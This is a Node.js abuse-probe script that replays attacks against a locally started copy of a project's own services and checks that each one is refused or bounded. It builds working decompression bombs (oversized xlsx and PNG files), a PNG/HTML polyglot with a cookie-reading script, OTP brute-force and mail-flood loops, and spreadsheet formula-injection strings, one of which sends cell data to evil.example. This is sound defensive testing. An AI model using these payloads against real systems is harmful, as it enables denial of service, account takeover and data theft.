#!/usr/bin/env node
// Abuse probe (`npm run abuse`; not part of `npm test`): starts a private stack the way `npm run bench` does
// (own ports, fresh data under .stack/abuse, services from dist/), replays each attack of issue 37 against the
// public API and prints, per attack: whether it was refused or bounded, the attacked service's peak RSS and CPU
// seconds during it, and its /livez latency meanwhile (p99 and max, polled every 100 ms); at the end, whether
// every service still runs as the same process (no restart). Writes bench/results/abuse.json.
//
// Environment:
//   ABUSE_SERVICES   services of the stack (default account,identity,checks,validations,pass,engagement);
//                    an attack whose service is not in it is reported as skipped
//   ABUSE_ONLY       comma-separated attack ids to run (default: all)
//   ABUSE_CONCURRENCY  copies of each resource bomb sent at once ("normal concurrency"; default 3)
//   ABUSE_OTP_MAX_GUESSES / ABUSE_OTP_MAX_CODES  wrong codes evaluated and code e-mails sent that still count as
//                    bounded (default 10 each)
// Exit status: 0 when every attack was refused or bounded and no service died; 1 otherwise.
import { readFileSync } from 'node:fs';
import { mkdir, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { createDeflate, crc32, deflateRawSync } from 'node:zlib';

import exitHook from 'async-exit-hook';

import { SANDBOX_MESSAGING_DEMO } from '../tools/stack/seed.mjs';
import { startStack } from '../tools/stack/stack.mjs';
import { freePorts, repoRoot } from '../tools/stack/util.mjs';
import { cpuMs, log, percentile, resultsDir, round } from './kit.mjs';

const SERVICES = (process.env.ABUSE_SERVICES ?? 'account,identity,checks,validations,pass,engagement').split(',');
const ONLY = process.env.ABUSE_ONLY ? process.env.ABUSE_ONLY.split(',') : undefined;
const CONCURRENCY = Number(process.env.ABUSE_CONCURRENCY ?? 3);
const stackDir = path.join(repoRoot, '.stack', 'abuse');

// ---------------------------------------------------------------------------------------------
// Measuring a service while an attack runs
// ---------------------------------------------------------------------------------------------

const rssMiB = (pid) => {
  try {
    const kb = /VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1];
    return kb ? Number(kb) / 1024 : null;
  } catch {
    return null;
  }
};

/** Runs attack() while sampling the service's RSS and its /livez latency; returns the figures with the outcome. */
async function measured(svc, attack) {
  let peak = rssMiB(svc.pid) ?? 0;
  const before = { rss: peak, cpu: cpuMs(svc.pid) };
  const latencies = [];
  let running = true;
  const sampler = (async () => {
    while (running) {
      peak = Math.max(peak, rssMiB(svc.pid) ?? 0);
      await new Promise((r) => setTimeout(r, 50));
    }
  })();
  const prober = (async () => {
    while (running) {
      const t = performance.now();
      const ok = await fetch(`${svc.url}/livez`, { signal: AbortSignal.timeout(30_000) })
        .then((r) => r.status === 200)
        .catch(() => false);
      latencies.push(ok ? performance.now() - t : 30_000);
      await new Promise((r) => setTimeout(r, 100));
    }
  })();
  const started = performance.now();
  let outcome;
  try {
    outcome = await attack();
  } catch (err) {
    outcome = { verdict: 'ERROR', detail: err.message };
  }
  running = false;
  await Promise.all([sampler, prober]);
  return {
    ...outcome,
    seconds: round((performance.now() - started) / 1000, 1),
    rss_before_mib: round(before.rss, 0),
    rss_peak_mib: round(peak, 0),
    cpu_seconds: round(((cpuMs(svc.pid) ?? 0) - (before.cpu ?? 0)) / 1000, 2),
    livez_p99_ms: round(percentile(latencies, 99), 0),
    livez_max_ms: round(Math.max(...latencies), 0),
  };
}

// ---------------------------------------------------------------------------------------------
// Files the attacks send
// ---------------------------------------------------------------------------------------------

function zipOf(parts) {
  const locals = [];
  const central = [];
  let offset = 0;
  for (const [name, text] of parts) {
    const data = Buffer.from(text);
    const packed = deflateRawSync(data, { level: 9 });
    const fileName = Buffer.from(name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(crc32(data), 14);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(fileName.length, 26);
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt16LE(20, 4);
    entry.writeUInt16LE(20, 6);
    entry.writeUInt16LE(8, 10);
    entry.writeUInt32LE(crc32(data), 16);
    entry.writeUInt32LE(packed.length, 20);
    entry.writeUInt32LE(data.length, 24);
    entry.writeUInt16LE(fileName.length, 28);
    entry.writeUInt32LE(offset, 42);
    locals.push(local, fileName, packed);
    central.push(entry, fileName);
    offset += 30 + fileName.length + packed.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/** A minimal xlsx: these sheet rows (XML) and shared strings, the strings part LAST when stringsLast. */
function xlsxOf(sheetRows, strings = [], { stringsLast = false } = {}) {
  const ns = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const rel = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const sheet = [
    'xl/worksheets/sheet1.xml',
    `<?xml version="1.0"?><worksheet xmlns="${ns}"><sheetData>${sheetRows}</sheetData></worksheet>`,
  ];
  const sst = [
    'xl/sharedStrings.xml',
    `<?xml version="1.0"?><sst xmlns="${ns}">${strings.map((s) => `<si><t>${s}</t></si>`).join('')}</sst>`,
  ];
  const head = [
    [
      '[Content_Types].xml',
      '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
    ],
    [
      'xl/workbook.xml',
      `<?xml version="1.0"?><workbook xmlns="${ns}" xmlns:r="${rel}"><sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    ],
    [
      'xl/_rels/workbook.xml.rels',
      `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${rel}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="${rel}/sharedStrings" Target="sharedStrings.xml"/></Relationships>`,
    ],
  ];
  return zipOf(stringsLast ? [...head, sheet, sst] : [...head, sst, sheet]);
}

/** A PNG of width x height at 16 bits RGBA whose pixels are all zero: ~300 KB that decodes to gigabytes. */
async function pngBomb(width, height, bitDepth = 16) {
  const chunk = (type, data) => {
    const head = Buffer.alloc(8);
    head.writeUInt32BE(data.length, 0);
    head.write(type, 4, 'latin1');
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0);
    return Buffer.concat([head, data, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = bitDepth;
  ihdr[9] = 6;
  const deflate = createDeflate({ level: 9 });
  const out = [];
  deflate.on('data', (d) => out.push(d));
  const done = new Promise((resolve) => deflate.on('end', resolve));
  const row = Buffer.alloc(1 + width * 4 * (bitDepth / 8));
  for (let y = 0; y < height; y++) if (!deflate.write(row)) await new Promise((r) => deflate.once('drain', r));
  deflate.end();
  await done;
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', Buffer.concat(out)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

// ---------------------------------------------------------------------------------------------
// Pass sign-in as a browser does it: /authorize, then the interaction pages with their cookies
// ---------------------------------------------------------------------------------------------

const OTP_MAX_GUESSES = Number(process.env.ABUSE_OTP_MAX_GUESSES ?? 10);
const OTP_MAX_CODES = Number(process.env.ABUSE_OTP_MAX_CODES ?? 10);
const countBy = (values) =>
  Object.entries(values.reduce((acc, v) => ({ ...acc, [v]: (acc[v] ?? 0) + 1 }), {}))
    .map(([k, n]) => `${n}x ${k}`)
    .join(', ');

async function signIn(ctx) {
  const jar = new Map();
  const keep = (res) => {
    for (const c of res.headers.getSetCookie()) {
      const [pair] = c.split(';');
      const eq = pair.indexOf('=');
      jar.set(pair.slice(0, eq), pair.slice(eq + 1));
    }
  };
  const cookie = () => [...jar].map(([k, v]) => `${k}=${v}`).join('; ');
  const client = ctx.passClient;
  const query = new URLSearchParams({
    client_id: client.client_id,
    response_type: 'code',
    scope: 'openid email',
    redirect_uri: client.redirect_uri,
    state: 'abuse-probe',
    nonce: 'abuse-probe',
    code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM',
    code_challenge_method: 'S256',
  });
  let url = `${ctx.services.pass}/authorize?${query}`;
  for (let hops = 0; hops < 5 && !/\/interaction\/[^/]+$/.test(new URL(url).pathname); hops++) {
    const res = await fetch(url, { redirect: 'manual', headers: { cookie: cookie() } });
    keep(res);
    const location = res.headers.get('location');
    if (!location) throw new Error(`/authorize answered ${res.status} without a redirect`);
    url = new URL(location, url).toString();
  }
  const page = await fetch(url, { headers: { cookie: cookie() } });
  keep(page);
  const email = `abuse.${Date.now()}@pass.local`;
  return {
    email,
    async post(step, form) {
      const res = await fetch(`${url}/${step}`, {
        method: 'POST',
        headers: { cookie: cookie(), 'content-type': 'application/x-www-form-urlencoded' },
        body: new URLSearchParams(form).toString(),
        redirect: 'manual',
      });
      keep(res);
      return { status: res.status, text: await res.text() };
    },
  };
}

// ---------------------------------------------------------------------------------------------
// The attacks
// ---------------------------------------------------------------------------------------------

async function api(base, key, method, pathname, body) {
  const res = await fetch(`${base}${pathname}`, {
    method,
    headers: { 'Service-API-Key': key, ...(body ? { 'content-type': 'application/json' } : {}) },
    body: body ? JSON.stringify(body) : undefined,
  });
  return { status: res.status, body: await res.json().catch(() => undefined) };
}

const put = async (link, body, contentType) => {
  const res = await fetch(link, { method: 'PUT', headers: { 'content-type': contentType }, body });
  return { status: res.status, body: await res.json().catch(() => undefined) };
};

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const summary = (answers) =>
  Object.entries(
    answers.reduce((acc, a) => {
      const k = `${a.status}${a.body?.error_code ? ` ${a.body.error_code}` : ''}`;
      acc[k] = (acc[k] ?? 0) + 1;
      return acc;
    }, {}),
  )
    .map(([k, n]) => `${n}x ${k}`)
    .join(', ');

const newBatch = async (ctx) => {
  const res = await api(ctx.services.checks, ctx.key, 'POST', '/v1/batches', {
    country: 'CO',
    service: 'checks',
    type: 'person',
    'columns_mapping.user_authorized': 0,
    'columns_mapping.national_id': 1,
    'columns_mapping.first_name': 2,
  });
  if (res.status !== 201) throw new Error(`POST /v1/batches answered ${res.status}: ${JSON.stringify(res.body)}`);
  return res.body.file_upload_link;
};

const bombs = (ctx, file, contentType = XLSX) =>
  Promise.all(Array.from({ length: CONCURRENCY }, async () => put(await newBatch(ctx), file, contentType)));

const refusedIf = (answers, ok) => ({
  verdict: answers.every(ok) ? 'refused' : 'NOT REFUSED',
  detail: summary(answers),
});

const ATTACKS = [
  {
    id: 'xlsx-empty-rows',
    service: 'checks',
    what: `xlsx of 2,000,000 empty rows, ${CONCURRENCY} at once`,
    prepare: () => xlsxOf(Array.from({ length: 2_000_000 }, (_, i) => `<row r="${i + 1}"/>`).join('')),
    async run(ctx, file) {
      const answers = await bombs(ctx, file);
      return refusedIf(answers, (a) => a.status === 400);
    },
  },
  {
    id: 'xlsx-shared-string',
    service: 'checks',
    what: `xlsx of ~100 KB holding a 100 MB shared string, ${CONCURRENCY} at once`,
    prepare: () => xlsxOf('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', ['x'.repeat(100_000_000)]),
    async run(ctx, file) {
      const answers = await bombs(ctx, file);
      return {
        ...refusedIf(answers, (a) => a.status === 400),
        detail: `${summary(answers)}; file ${file.length} bytes`,
      };
    },
  },
  {
    id: 'xlsx-link-reuse',
    service: 'checks',
    what: 'one upload link sent 10 unreadable files',
    async run(ctx) {
      const link = await newBatch(ctx);
      const answers = [];
      for (let i = 0; i < 10; i++) answers.push(await put(link, Buffer.from('PK not a spreadsheet'), XLSX));
      const parsed = answers.filter((a) => a.status === 400).length;
      return { verdict: parsed <= 3 ? 'bounded' : 'NOT BOUNDED', detail: `${parsed} parsed, ${summary(answers)}` };
    },
  },
  {
    id: 'xlsx-strings-last',
    service: 'checks',
    what: 'valid xlsx whose sharedStrings.xml is the last part, uploaded 20 times',
    async run(ctx) {
      const file = xlsxOf(
        '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1"><v>1017</v></c><c r="C1" t="s"><v>1</v></c></row>',
        ['true', 'Ana'],
        { stringsLast: true },
      );
      const answers = [];
      for (let i = 0; i < 20; i++) answers.push(await put(await newBatch(ctx), file, XLSX));
      const ok = answers.filter((a) => a.status === 200).length;
      return { verdict: ok === 20 ? 'read right' : 'MISREAD', detail: `${ok}/20 accepted; ${summary(answers)}` };
    },
  },
  {
    id: 'image-pixel-bomb',
    service: 'validations',
    what: `PNG 8000x5000 at 16 bits (~300 KB) as a document front, ${CONCURRENCY} at once`,
    prepare: () => pngBomb(8000, 5000),
    async run(ctx, png) {
      const answers = await Promise.all(
        Array.from({ length: CONCURRENCY }, async () => {
          const v = await api(ctx.services.validations, ctx.key, 'POST', '/v1/validations', {
            type: 'document-validation',
            user_authorized: 'true',
            country: 'CO',
            document_type: 'national-id',
          });
          if (v.status !== 201) throw new Error(`POST /v1/validations answered ${v.status}: ${JSON.stringify(v.body)}`);
          return put(v.body.instructions.front_url, png.toString('base64'), 'text/plain');
        }),
      );
      return {
        ...refusedIf(answers, (a) => a.status === 400 && a.body?.error_code === 'image_too_large'),
        detail: `${summary(answers)}; file ${png.length} bytes`,
      };
    },
  },
  {
    id: 'image-polyglot',
    service: 'validations',
    what: 'PNG with an HTML page after its end, as a document front',
    async run(ctx) {
      const v = await api(ctx.services.validations, ctx.key, 'POST', '/v1/validations', {
        type: 'document-validation',
        user_authorized: 'true',
        country: 'CO',
        document_type: 'national-id',
      });
      const png = await pngBomb(1, 1);
      const polyglot = Buffer.concat([png, Buffer.from('<html><script>alert(document.cookie)</script></html>')]);
      const answer = await put(v.body.instructions.front_url, polyglot.toString('base64'), 'text/plain');
      return refusedIf([answer], (a) => a.status === 415);
    },
  },
  // The worst ACCEPTED inputs plus normal concurrency: the figures deploy/ sizes memory limits from.
  {
    id: 'worst-accepted-batch',
    service: 'checks',
    what: `valid xlsx of 100,000 rows (CHECKS_BATCH_MAX_ROWS), ${CONCURRENCY} at once`,
    prepare: () => {
      const strings = Array.from({ length: 100_000 }, (_, i) => `Name ${i}`);
      const rows = strings
        .map(
          (_, i) =>
            `<row r="${i + 1}"><c r="A${i + 1}" t="s"><v>0</v></c><c r="B${i + 1}"><v>${10_000_000 + i}</v></c><c r="C${i + 1}" t="s"><v>${i + 1}</v></c></row>`,
        )
        .join('');
      return xlsxOf(rows, ['true', ...strings]);
    },
    async run(ctx, file) {
      const answers = await bombs(ctx, file);
      return {
        verdict: answers.every((a) => a.status === 200) ? 'accepted' : 'REFUSED',
        detail: `${summary(answers)}; file ${file.length} bytes`,
      };
    },
  },
  {
    id: 'worst-accepted-image',
    service: 'validations',
    what: `PNG of 16 MP (the budget) through the document engine, ${CONCURRENCY} at once`,
    prepare: () => pngBomb(4000, 4000, 8),
    async run(ctx, png) {
      const ids = await Promise.all(
        Array.from({ length: CONCURRENCY }, async () => {
          const v = await api(ctx.services.validations, ctx.key, 'POST', '/v1/validations', {
            type: 'document-validation',
            user_authorized: 'true',
            country: 'CO',
            document_type: 'passport',
          });
          const up = await put(v.body.instructions.front_url, png.toString('base64'), 'text/plain');
          if (up.status !== 200) throw new Error(`upload answered ${up.status}: ${JSON.stringify(up.body)}`);
          return v.body.validation_id;
        }),
      );
      const outcomes = [];
      for (const id of ids)
        for (let i = 0; ; i++) {
          const got = await api(ctx.services.validations, ctx.key, 'GET', `/v1/validations/${id}`);
          if (got.body?.validation_status !== 'pending') {
            outcomes.push(got.body?.validation_status);
            break;
          }
          if (i > 1800) throw new Error(`validation ${id} still pending after 180 s`);
          await new Promise((r) => setTimeout(r, 100));
        }
      return { verdict: 'accepted', detail: `engine finished: ${outcomes.join(', ')}` };
    },
  },
  // Owned by other engineers (issue 37 §1, §3 engagement, §4): probed here through the same public API when
  // their service is in the stack; what the probe sees is reported as it is.
  {
    id: 'otp-code-guessing',
    service: 'pass',
    what: `pass sign-in codes: 20 codes x 5 wrong guesses, then ${40} wrong guesses at once (owner: otp)`,
    async run(ctx) {
      const flow = await signIn(ctx);
      let evaluated = 0;
      const statuses = [];
      const guess = async (code) => {
        const res = await flow.post('code', { code });
        statuses.push(res.status);
        if (res.text.includes('invalid_code')) evaluated++;
      };
      for (let c = 0; c < 20; c++) {
        await flow.post('email', { email: flow.email });
        for (let g = 0; g < 5; g++) await guess(String(100000 + c * 5 + g));
      }
      const sequential = evaluated;
      await flow.post('email', { email: flow.email });
      evaluated = 0;
      await Promise.all(Array.from({ length: 40 }, (_, i) => guess(String(200000 + i))));
      const burst = evaluated;
      return {
        verdict: sequential <= OTP_MAX_GUESSES && burst <= OTP_MAX_GUESSES ? 'bounded' : 'NOT BOUNDED',
        detail: `${sequential} of 100 sequential and ${burst} of 40 simultaneous wrong guesses evaluated (bound ${OTP_MAX_GUESSES}); answers ${countBy(statuses)}`,
      };
    },
  },
  {
    id: 'otp-mail-flood',
    service: 'pass',
    what: '50 sign-in code e-mails asked for one address (owner: otp)',
    async run(ctx) {
      const flow = await signIn(ctx);
      const statuses = [];
      let sent = 0;
      for (let i = 0; i < 50; i++) {
        const res = await flow.post('email', { email: flow.email });
        statuses.push(res.status);
        if (res.status === 200 && res.text.includes('name="code"')) sent++;
      }
      return {
        verdict: sent <= OTP_MAX_CODES ? 'bounded' : 'NOT BOUNDED',
        detail: `${sent} of 50 code e-mails sent (bound ${OTP_MAX_CODES}); answers ${countBy(statuses)}`,
      };
    },
  },
  {
    id: 'engagement-media',
    service: 'engagement',
    what: 'two concurrent media uploads of 48 MB bodies (owner: engtenant)',
    prepare: () => Buffer.alloc(36 * 1024 * 1024, 1).toString('base64'),
    async run(ctx, file) {
      const answers = await Promise.all(
        [0, 1].map(() =>
          api(ctx.services.engagement, ctx.key, 'POST', '/v1/msg/media', {
            waba_phone_number: ctx.line,
            media_type: 'DOCUMENT',
            mime_type: 'application/pdf',
            file,
          }),
        ),
      );
      return { verdict: 'see figures', detail: `${summary(answers)}; bodies ${file.length} bytes` };
    },
  },
  {
    id: 'engagement-tsv-formula',
    service: 'engagement',
    what: 'a user writes =HYPERLINK(...) and other formula starts to the line; an agent exports the chat as TSV',
    async run(ctx) {
      const from = `5730${String(Date.now()).slice(-7)}`;
      const texts = [
        '=HYPERLINK("http://evil.example/?"&A1,"ver pedido")',
        '+1+cmd|" /C calc"!A0',
        '@SUM(1+1)',
        '-2+3',
      ];
      for (const text of texts) {
        const res = await fetch(`${ctx.sandbox}/_sandbox/reply`, {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ phone_number_id: SANDBOX_MESSAGING_DEMO.phoneNumberId, from, text, name: '=CMD()' }),
        });
        if (res.status !== 200) throw new Error(`sandbox reply: ${res.status} ${await res.text()}`);
      }
      const phone = `+${from}`;
      let chat;
      for (let i = 0; !chat; i++) {
        const found = await api(
          ctx.services.engagement,
          ctx.key,
          'GET',
          `/v1/engagement/chat/search?search=${encodeURIComponent(phone)}`,
        );
        chat = found.body?.chats?.find((c) => c.contact?.phone === phone);
        if (!chat && i > 300) throw new Error(`no chat for ${phone}: ${JSON.stringify(found.body)}`);
        if (!chat) await new Promise((r) => setTimeout(r, 100));
      }
      for (let i = 0; ; i++) {
        const acts = await api(
          ctx.services.engagement,
          ctx.key,
          'GET',
          `/v1/engagement/chat/${chat.chat_id}/activities?activity_type=message`,
        );
        if ((acts.body?.activities ?? []).length >= texts.length) break;
        if (i > 300) throw new Error('the messages did not all reach the chat');
        await new Promise((r) => setTimeout(r, 100));
      }
      const month = new Date().toISOString().slice(0, 7);
      const requested = await api(ctx.services.engagement, ctx.key, 'POST', '/v1/engagement/chat/export', {
        language: 'en',
        export_type: 'single_chat',
        export_format: 'tsv',
        time_range_start_date: month,
        time_range_end_date: month,
        chat_id: chat.chat_id,
      });
      if (requested.status !== 201) throw new Error(`export: ${requested.status} ${JSON.stringify(requested.body)}`);
      let done;
      for (let i = 0; !done; i++) {
        const got = await api(
          ctx.services.engagement,
          ctx.key,
          'GET',
          `/v1/engagement/chat/export/${requested.body.export_id}`,
        );
        if (got.body?.status === 'completed') done = got.body;
        else if (i > 600) throw new Error(`export still ${got.body?.status}`);
        else await new Promise((r) => setTimeout(r, 100));
      }
      const link = new URL(done.download_url);
      const tsv = await (await fetch(`${ctx.services.engagement}${link.pathname}${link.search}`)).text();
      const cells = tsv
        .trimEnd()
        .split('\n')
        .slice(1)
        .flatMap((line) => line.split('\t'));
      // A live formula: a cell starting with = + - @ that is not a plain number.
      const live = cells.filter((c) => /^[=+@-]/.test(c) && !/^[+-]?[0-9.]+$/.test(c));
      return {
        verdict: live.length === 0 ? 'refused' : 'NOT BOUNDED',
        detail: `${cells.length} cells exported, ${live.length} would start a formula${live.length ? `: ${live.slice(0, 3).join(' | ')}` : ''}`,
      };
    },
  },
];

// ---------------------------------------------------------------------------------------------
// Runner
// ---------------------------------------------------------------------------------------------

let stack;
exitHook((done) => {
  const finish = typeof done === 'function' ? done : () => {};
  if (!stack) return finish();
  void stack.stop().finally(finish);
});

async function main() {
  await rm(stackDir, { recursive: true, force: true });
  const [pg, kafka, controller, ...servicePorts] = await freePorts(3 + SERVICES.length);
  log(`starting a stack in ${path.relative(repoRoot, stackDir)} (services: ${SERVICES.join(', ')})`);
  stack = await startStack({
    stackDir,
    cacheDir: path.join(repoRoot, '.stack'),
    ports: {
      postgres: pg,
      kafka,
      kafkaController: controller,
      services: Object.fromEntries(SERVICES.map((name, i) => [name, servicePorts[i]])),
    },
    services: SERVICES,
    serviceEnv: { LOG_LEVEL: 'warn' },
    log: (m) => log(`stack: ${m}`),
  });
  const processes = Object.fromEntries(stack.processes.map((p) => [p.name, p]));
  const ctx = {
    services: stack.info.services,
    key: stack.info.api_key,
    passClient: stack.info.pass_client,
    line: SANDBOX_MESSAGING_DEMO.phone,
    sandbox: stack.info.sandbox_messaging,
  };
  // The demo key reaches each service's access cache through Kafka.
  for (const name of ['checks', 'validations', 'engagement'].filter((n) => processes[n]))
    for (let i = 0; i < 600; i++) {
      const res = await fetch(`${ctx.services[name]}/v1/auth/whoami`, { headers: { 'Service-API-Key': ctx.key } });
      if (res.status === 200) break;
      await new Promise((r) => setTimeout(r, 100));
    }
  const pids = Object.fromEntries(stack.processes.map((p) => [p.name, p.pid]));
  const results = [];
  for (const attack of ATTACKS) {
    if (ONLY && !ONLY.includes(attack.id)) continue;
    const svc = processes[attack.service];
    if (!svc) {
      results.push({
        id: attack.id,
        service: attack.service,
        what: attack.what,
        verdict: 'skipped',
        detail: 'service not in the stack',
      });
      continue;
    }
    log(`${attack.id}: ${attack.what}`);
    const input = await attack.prepare?.();
    const r = {
      id: attack.id,
      service: attack.service,
      what: attack.what,
      ...(await measured(svc, () => attack.run(ctx, input))),
    };
    log(
      `  -> ${r.verdict}: ${r.detail} | RSS ${r.rss_before_mib} -> peak ${r.rss_peak_mib} MiB, CPU ${r.cpu_seconds} s, /livez p99 ${r.livez_p99_ms} ms (max ${r.livez_max_ms})`,
    );
    results.push(r);
  }
  const restarted = stack.processes
    .filter((p) => p.process.exitCode !== null || p.process.signalCode !== null)
    .map((p) => p.name);
  console.log('\nattack                   service      verdict       peak RSS MiB  CPU s   /livez p99/max ms  detail');
  for (const r of results)
    console.log(
      `${r.id.padEnd(24)} ${r.service.padEnd(12)} ${String(r.verdict).padEnd(13)} ${String(r.rss_peak_mib ?? '-').padStart(12)}  ${String(r.cpu_seconds ?? '-').padStart(5)}   ${`${r.livez_p99_ms ?? '-'}/${r.livez_max_ms ?? '-'}`.padStart(17)}  ${r.detail ?? ''}`,
    );
  console.log(
    restarted.length
      ? `\nSERVICES THAT DIED: ${restarted.join(', ')}`
      : '\nno service restarted (same processes from start to end)',
  );
  await mkdir(resultsDir, { recursive: true });
  await writeFile(
    path.join(resultsDir, 'abuse.json'),
    `${JSON.stringify({ date: new Date().toISOString(), concurrency: CONCURRENCY, pids, restarted, results }, null, 2)}\n`,
  );
  await stack.stop();
  stack = undefined;
  process.exit(restarted.length || results.some((r) => /^[A-Z]/.test(r.verdict)) ? 1 : 0);
}

main().catch(async (err) => {
  console.error(err);
  await stack?.stop();
  process.exit(1);
});
